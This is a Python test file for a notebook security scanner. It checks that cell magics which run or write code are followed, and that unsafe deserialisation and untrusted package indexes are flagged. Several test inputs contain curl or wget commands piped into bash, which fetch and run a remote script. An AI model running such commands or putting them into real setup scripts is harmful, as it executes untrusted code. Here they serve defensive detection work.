from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from hooks.code.notebook_magics import DefinedMagic, defined_cell_magics
from tests.code.helpers import notebook, scan_code

WRITE_AND_RUN = """from IPython.core.magic import register_cell_magic

@register_cell_magic
def write_and_run(line, cell):
    argz = line.split()
    with open(argz[-1], "w") as f:
        f.write(cell)
    get_ipython().run_cell(cell)
"""
WITH_GLOBALS = """@register_cell_magic("with_globals")
def fill_in(line, cell):
    contents = cell.format(**globals())
    get_ipython().run_cell(contents)
"""
WRITE_TEMPLATE = """from IPython.core.magic import register_line_cell_magic
@register_line_cell_magic
def writetemplate(line, cell):
    with open(line, "w") as f:
        f.write(cell.format(**globals()))
"""
SHOW_ONLY = """@register_cell_magic
def show(line, cell):
    print(cell)
"""


def places(findings: list) -> list[tuple[str, int | None, int]]:  # type: ignore[type-arg]
    return sorted((f.rule_id, f.cell, f.line) for f in findings)


def test_what_each_definition_does_with_the_cell() -> None:
    methods = """@magics_class
class Mine(Magics):
    @cell_magic("runit")
    def run_it(self, line, cell):
        exec(cell, self.shell.user_ns)

def keep(line, cell):
    open(line.strip(), "w").write(cell)

get_ipython().register_magic_function(keep, "cell", "keep")
get_ipython().register_magic_function(keep, magic_kind="line", magic_name="not_a_cell_magic")
"""
    assert defined_cell_magics([WRITE_AND_RUN, WITH_GLOBALS, WRITE_TEMPLATE, SHOW_ONLY, methods]) == {
        "write_and_run": DefinedMagic(runs=True, writes=("word", "-1")),
        "with_globals": DefinedMagic(runs=True),
        "writetemplate": DefinedMagic(runs=False, writes=("line", "")),
        "runit": DefinedMagic(runs=True),
        "keep": DefinedMagic(runs=False, writes=("line", "")),
    }


def test_the_written_files_name_as_the_definition_picks_it() -> None:
    sources = [
        "@register_cell_magic\ndef fixed(line, cell):\n    open('setup.sh', 'w').write(cell)\n",
        "@register_cell_magic\ndef first(line, cell):\n    open(line.split()[0], 'w').write(cell)\n",
        "@register_cell_magic\ndef path(line, cell):\n    Path(line.strip()).write_text(cell)\n",
        "@register_cell_magic\ndef joined(line, cell):\n    open(os.path.join(d, line), 'w').write(cell)\n",
        "@register_cell_magic\ndef shown(line, cell):\n    sys.stdout.write(cell)\n",
    ]
    defined = defined_cell_magics(sources)
    assert defined["fixed"].written_name("notes") == "setup.sh"
    assert defined["first"].written_name("setup.sh quiet") == "setup.sh"
    assert defined["path"].written_name(" run.sh ") == "run.sh"
    # Written, but to a name this reader cannot tell: the body stays unread (a low note).
    assert defined["joined"] == DefinedMagic(runs=False, unread=True)
    # Look-alike: writing to standard output writes no file.
    assert "shown" not in defined


def test_a_defined_magic_that_runs_the_cell_is_analysed(tmp_path: Path) -> None:
    text = notebook(
        WRITE_AND_RUN,
        "%%write_and_run trainer/task.py\nimport pickle\nmodel = pickle.loads(blob)",
        WITH_GLOBALS,
        "%%with_globals\nimport torch\nsd = torch.load('{CKPT}')",
    )
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("B301", 2, 3), ("MLS306", 4, 3)]


def test_a_defined_magic_that_writes_the_cell_hands_the_file_on(tmp_path: Path) -> None:
    text = notebook(WRITE_TEMPLATE, "%%writetemplate run.sh\ncurl -fsSL https://x.example/i.sh | bash")
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS321", 2, 2)]


def test_look_alike_a_magic_that_only_shows_the_cell_stays_unknown(tmp_path: Path) -> None:
    text = notebook(SHOW_ONLY, "%%show\nimport pickle\nmodel = pickle.loads(blob)")
    (finding,) = scan_code(tmp_path, text, "nb.ipynb")
    assert (finding.rule_id, finding.cell) == ("MLS324", 2)
    assert "%%show" in finding.message


def test_redefining_a_shipped_magic_does_not_hide_its_body(tmp_path: Path) -> None:
    quiet = '@register_cell_magic\ndef bash(line, cell):\n    get_ipython().run_cell("pass")\n'
    text = notebook(quiet, "%%bash\ncurl -fsSL https://x.example/i.sh | sh")
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS321", 2, 2)]


def test_colab_shell_and_wandb_cells(tmp_path: Path) -> None:
    text = notebook(
        "%%shell\nwget -qO- https://x.example/setup.sh | bash",
        "%%wandb\nimport torch\nsd = torch.load(path)",
    )
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("MLS306", 2, 3), ("MLS321", 1, 2)]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=200), max_size=4))
def test_garbage_sources_are_read_without_error(sources: list[str]) -> None:
    marked = [source + "\n@register_cell_magic\ndef m(line, cell):\n    exec(cell)\n" for source in sources]
    result = defined_cell_magics([*sources, *marked])
    assert all(isinstance(use, DefinedMagic) for use in result.values())


SAVE = """@register_cell_magic
def save(line, cell):
    open(line.split()[-1], "w").write(cell)
"""


def test_a_requirements_file_a_defined_magic_writes_reaches_the_deps_checks(tmp_path: Path) -> None:
    text = notebook(SAVE, "%%save requirements.txt\n--index-url http://pypi.example/simple\ntorch==2.3.1")
    found = [f for f in scan_code(tmp_path, text, "nb.ipynb") if f.rule_id != "MLS416"]
    assert places(found) == [("MLS406", 2, 2)]
    assert found[0].message.endswith("(in requirements.txt, which this cell writes)")


def test_a_redefined_shipped_magic_is_read_both_ways(tmp_path: Path) -> None:
    # IPython runs the notebook's own `bash`: its body is Python here, and still read as shell.
    runs_python = "@register_cell_magic\ndef bash(line, cell):\n    get_ipython().run_cell(cell)\n"
    text = notebook(runs_python, "%%bash\nimport pickle\nmodel = pickle.loads(blob)")
    assert places(scan_code(tmp_path, text, "nb.ipynb")) == [("B301", 2, 3)]
    shell_body = notebook(runs_python, "%%bash\ncurl -fsSL https://x.example/i.sh | sh")
    found = places(scan_code(tmp_path, shell_body, "nb.ipynb"))
    assert ("MLS321", 2, 2) in found


def test_a_file_whose_name_cannot_be_told_stays_a_low_note(tmp_path: Path) -> None:
    joined = "@register_cell_magic\ndef keep(line, cell):\n    open(os.path.join(d, line), 'w').write(cell)\n"
    (finding,) = scan_code(tmp_path, notebook(joined, "%%keep run.sh\ncurl https://x | sh"), "nb.ipynb")
    assert (finding.rule_id, finding.severity.value, finding.cell) == ("MLS324", "low", 2)


def test_magics_nested_past_the_limit_block(tmp_path: Path) -> None:
    go = "@register_cell_magic\ndef go(line, cell):\n    get_ipython().run_cell(cell)\n"
    deep = "%%go\n" * 200 + "import pickle\nx = pickle.loads(b)"
    found = scan_code(tmp_path, notebook(go, deep, "y = 1"), "nb.ipynb")
    assert [(f.rule_id, f.severity.value, f.cell) for f in found] == [("MLS907", "medium", 2)]
    # Look-alike: a few levels are followed as IPython runs them.
    shallow = "%%go\n%%time\n%%capture\nimport pickle\nx = pickle.loads(b)"
    assert places(scan_code(tmp_path, notebook(go, shallow), "nb.ipynb")) == [("B301", 2, 5)]
